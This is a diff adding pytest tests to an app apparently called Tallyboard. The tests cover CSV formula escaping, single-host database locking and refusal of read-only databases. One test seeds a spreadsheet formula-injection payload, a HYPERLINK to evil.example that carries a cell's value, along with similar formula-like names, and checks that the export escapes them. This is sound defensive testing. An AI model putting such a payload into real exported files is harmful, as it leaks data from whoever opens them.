@@ -7,9 +7,13 @@ import hashlib
 import io
 import json
 import os
+import shutil
 import signal
 import subprocess
 import sys
+import tempfile
+import uuid
+from collections.abc import Iterator
 from pathlib import Path
 
 import pytest
@@ -241,3 +245,202 @@ def test_rehearse_refuses_a_fingerprint_that_is_not_64_hex_digits(tmp_path: Path
     assert result.returncode == 2
     assert "a fingerprint is 64 hex digits" in result.stderr.strip().splitlines()[-1]
     assert not data.exists()  # refused before anything ran
+
+
+def test_export_csv_neutralises_names_that_start_like_formulas(tmp_path: Path) -> None:
+    """Issue 15 item 9: `=HYPERLINK(...)` in a team name must not become a live formula."""
+    db = tmp_path / "host.db"
+    host = Replica.open(db)
+    seed_demo(host)
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click me")'
+    host.admin("team.put", {"id": "team-aurora", "name": formula, "location": "@SUM(1+1)*cmd"})
+    host.admin("team.put", {"id": "-1-1", "name": "+Mallory", "location": "-Hall"})
+    criterion = next(c for c in host.state.criteria() if c["id"] == "design")
+    host.admin("criterion.put", {**criterion, "name": "=1+1"})
+    host.close()
+    result = run_cli("export", "--db", str(db), "--format", "csv")
+    assert result.returncode == 0, result.stderr
+    rows = list(csv.reader(io.StringIO(result.stdout)))
+    cells = [cell for row in rows for cell in row]
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@")], cells
+    assert "'=1+1 (mean)" in rows[0]
+    assert ["'-1-1", "'+Mallory", "'-Hall"] in [row[1:4] for row in rows]
+    assert ["team-aurora", "'" + formula, "'@SUM(1+1)*cmd"] in [row[1:4] for row in rows]
+
+
+# --- one host per database, and databases it cannot write (issue 15 items 10 and 11) -----------
+
+
+def start_host(db: Path, *extra: str, user: int | None = None) -> subprocess.Popen[str]:
+    """Start `main.py host --headless` on loopback, any free port, no mDNS, plain ws://
+    (as `user`, through setpriv, when given)."""
+    as_user = [] if user is None else ["setpriv", f"--reuid={user}", f"--regid={user}"]
+    command = [sys.executable, str(ROOT / "main.py"), "host", "--headless", "--db", str(db)]
+    loopback = ["--insecure", "--no-mdns", "--bind", "127.0.0.1", "--port", "0"]
+    return subprocess.Popen(
+        [*as_user, *(["--clear-groups"] if as_user else []), *command, *loopback, *extra],
+        stdout=subprocess.PIPE,
+        stderr=subprocess.PIPE,
+        text=True,
+        env={**os.environ, "PYTHONPATH": str(ROOT), "PYTHONDONTWRITEBYTECODE": "1"},
+    )
+
+
+def banner(process: subprocess.Popen[str]) -> list[str]:
+    """Read the host's banner up to its last line (or to its end, if it exits first)."""
+    assert process.stdout is not None
+    lines = []
+    for line in process.stdout:
+        lines.append(line)
+        if line.startswith("  join codes"):
+            break
+    return lines
+
+
+def stop(process: subprocess.Popen[str], sig: int = signal.SIGTERM) -> str:
+    """Stop a host process and return its stderr."""
+    process.send_signal(sig)
+    _, err = process.communicate(timeout=20)
+    return err
+
+
+def pair_with_display_code(db: Path, url: str) -> dict[str, object]:
+    """Pair a new display with a raw websockets hello; return the host's first answer."""
+    from websockets.sync.client import connect  # noqa: PLC0415
+
+    from storage.signing import DeviceKey  # noqa: PLC0415
+
+    codes = json.loads(run_cli("codes", "--db", str(db)).stdout)
+    code = next(c["code"] for c in codes if c["role"] == "display")
+    hello = {
+        "type": "hello",
+        "protocol": 1,
+        "device": str(uuid.uuid4()),
+        "code": code,
+        "pubkey": DeviceKey.generate().public_b64,
+        "vv": {},
+    }
+    with connect(url, open_timeout=10) as ws:
+        ws.send(json.dumps(hello))
+        answer: dict[str, object] = json.loads(ws.recv(timeout=10))
+    return answer
+
+
+def _url(lines: list[str]) -> str:
+    return next(line.split()[-1] for line in lines if line.strip().startswith("listening"))
+
+
+def test_a_second_host_on_one_database_is_refused_and_the_lock_dies_with_the_first(
+    demo_db: Path,
+) -> None:
+    first = start_host(demo_db)
+    try:
+        assert any("listening" in line for line in banner(first))
+        second = start_host(demo_db)
+        out, err = second.communicate(timeout=30)
+        assert second.returncode != 0
+        assert err.strip().count("\n") == 0, err
+        assert "in use by another Tallyboard" in err
+        assert str(first.pid) in err
+        assert "Traceback" not in err
+        assert "listening" not in out
+        assert first.poll() is None  # the first host is unharmed and still pairs devices
+    finally:
+        first.send_signal(signal.SIGKILL)
+        first.communicate(timeout=20)
+    # SIGKILL: nothing ran to release the lock, yet the OS did; a restart serves.
+    again = start_host(demo_db)
+    try:
+        url = _url(banner(again))
+        assert pair_with_display_code(demo_db, url)["type"] == "welcome"
+    finally:
+        err = stop(again)
+    assert again.returncode == 0, err
+
+
+@pytest.mark.parametrize("mode", ["host", "judge", "team", "display"])
+def test_a_window_on_a_database_another_process_holds_refuses_in_one_line(
+    demo_db: Path, mode: str
+) -> None:
+    holder = start_host(demo_db)
+    try:
+        lines = banner(holder)
+        result = subprocess.run(
+            [sys.executable, str(ROOT / "main.py"), mode, "--db", str(demo_db)],
+            capture_output=True,
+            text=True,
+            timeout=30,
+            env={**os.environ, "PYTHONPATH": str(ROOT), "QT_QPA_PLATFORM": "offscreen"},
+            check=False,
+        )
+        assert result.returncode != 0
+        assert result.stderr.strip().count("\n") == 0, result.stderr
+        assert "in use by another Tallyboard" in result.stderr
+        assert pair_with_display_code(demo_db, _url(lines))["type"] == "welcome"
+    finally:
+        err = stop(holder)
+    assert holder.returncode == 0, err
+
+
+NOBODY = 65534
+
+
+@pytest.fixture
+def shared_dir() -> Iterator[Path]:
+    """A folder that another user (nobody, when the tests run as root) can use."""
+    folder = Path(tempfile.mkdtemp(prefix="tallyboard-ro-"))
+    folder.chmod(0o755)
+    try:
+        yield folder
+    finally:
+        for path in [folder, *folder.rglob("*")]:
+            path.chmod(0o755 if path.is_dir() else 0o644)
+        shutil.rmtree(folder)
+
+
+@pytest.mark.parametrize(
+    ("read_only", "history"),
+    [
+        ("file", "served"),
+        ("file", "never served"),
+        ("folder", "served"),
+        ("folder", "never served"),
+        ("folder", "absent"),
+    ],
+)
+def test_a_host_on_a_database_it_cannot_write_refuses_in_one_line(
+    demo_db: Path, shared_dir: Path, read_only: str, history: str
+) -> None:
+    """Issue 15 item 10: before, a served database started, then closed each pairing 1011."""
+    db = shared_dir / "event" / "host.db"
+    db.parent.mkdir()
+    if history == "served":
+        shutil.copy(demo_db, db)
+        host = start_host(db)
+        banner(host)
+        stop(host)
+    elif history == "never served":
+        Replica.open(db).close()  # made by a tool, never opened by a host
+    user = NOBODY if os.geteuid() == 0 else None  # root writes read-only files anyway
+    for path in [db.parent, *db.parent.iterdir()]:
+        if user is not None:
+            os.chown(path, user, user)
+    if read_only == "file":
+        db.chmod(0o444)
+        db.parent.chmod(0o777)
+    else:
+        db.parent.chmod(0o555)
+    # The database loses nothing (SQLite may add its -shm beside a read-only file; the lock
+    # file holds the pid of whoever tried last).
+    saved = [p for p in db.parent.iterdir() if not p.name.endswith((".lock", "-shm"))]
+    before = {p.name: _digest(p) for p in saved}
+    host = start_host(db, user=user)
+    out, err = host.communicate(timeout=30)
+    assert host.returncode != 0
+    assert err.strip().count("\n") == 0, err
+    assert "read-only" in err, err
+    assert "Traceback" not in err
+    assert "listening" not in out
+    assert {p.name: _digest(p) for p in saved} == before
+    assert ("folder" in err) == (read_only == "folder"), err  # it says which to fix
+    assert db.exists() == (history != "absent")
